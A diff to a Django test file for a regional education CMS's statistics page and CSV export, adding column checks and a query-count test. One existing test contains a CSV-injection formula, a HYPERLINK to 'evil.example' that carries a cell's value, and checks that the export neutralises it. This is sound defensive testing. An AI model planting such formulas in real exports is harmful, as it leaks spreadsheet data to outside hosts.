@@ -7,7 +7,14 @@ import io
 import pytest
 from bs4 import BeautifulSoup
 from django.contrib.auth.models import Group, Permission
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+
+from cms.bookings.models import Booking
+from tests.bookings.factories import BookingFactory, LessonOfferingFactory, TimeSlotFactory
+from tests.events.factories import EventRegistrationFactory
+from tests.factories import EventPageFactory, RegionSite, SchoolFactory, TechniekhuisPageFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -74,15 +81,23 @@ def test_csv_export_has_the_same_figures(client, admin_user, dataset):
         "Challengeteams",
         "Leerlingen in challenges",
         "Downloads van leskisten",
+        # the installed optional apps' figures (none in this dataset; see test_sources.py)
+        "Uitgeleende leskisten",
+        "Leerlingen bereikt met uitgeleende leskisten",
+        "Gevolgde professionaliseringsactiviteiten",
+        "Professionaliseringsuren",
+        "Ingevulde evaluaties",
+        "Gemiddeld evaluatiecijfer (1-5)",
         "Bijeenkomsten",
     ]
-    body = {(r[0], r[1]): r[2:] for r in rows[1:]}
+    body = {(r[0], r[1]): r[2:9] + r[-1:] for r in rows[1:]}
     # pupils, classes, schools, event registrations, challenge teams, challenge pupils, kit downloads, events
     assert body == {
         (dataset.a.name, "2025-2026"): ["75", "3", "2", "3", "2", "11", "4", "1"],
         (dataset.a.name, "2026-2027"): ["24", "1", "1", "0", "0", "0", "1", "0"],
         ("Totaal", ""): ["99", "4", "3", "3", "2", "11", "5", "1"],
     }
+    assert {tuple(r[9:15]) for r in rows[1:]} == {("0", "0", "0", "0,0", "0", "—")}
 
 
 def test_csv_export_has_kit_downloads_per_region_and_quarter(client, admin_user, dataset):
@@ -201,3 +216,25 @@ def test_csv_export_neutralises_formulas_in_region_names(client, admin_user, dat
 
     assert '\'=HYPERLINK("https://evil.example/?"&A1,"klik")' in [row[0] for row in rows]
     assert not [row for row in rows if row[0].startswith("=")]
+
+
+def test_page_runs_the_same_few_queries_however_much_data_there_is(
+    client, admin_user, dataset, django_assert_max_num_queries
+):
+    client.force_login(admin_user)
+    client.get(URL)  # session and admin chrome warmed up
+    with CaptureQueriesContext(connection) as small:
+        client.get(URL)
+
+    c = RegionSite(hostname="regio-c.example", is_default=False)
+    offering = LessonOfferingFactory(techniekhuis=TechniekhuisPageFactory(parent=c.techniekhuizen))
+    for month in range(1, 13):
+        slot = TimeSlotFactory(offering=offering, date=dt.date(2024, month, 10), capacity_classes=10)
+        for _ in range(3):
+            BookingFactory(slot=slot, school=SchoolFactory(region=c.region), status=Booking.Status.COMPLETED)
+        EventRegistrationFactory(event=EventPageFactory(parent=c.events))
+
+    with django_assert_max_num_queries(len(small.captured_queries)):
+        response = client.get(URL)
+    assert response.status_code == 200
+    assert len(small.captured_queries) <= 25
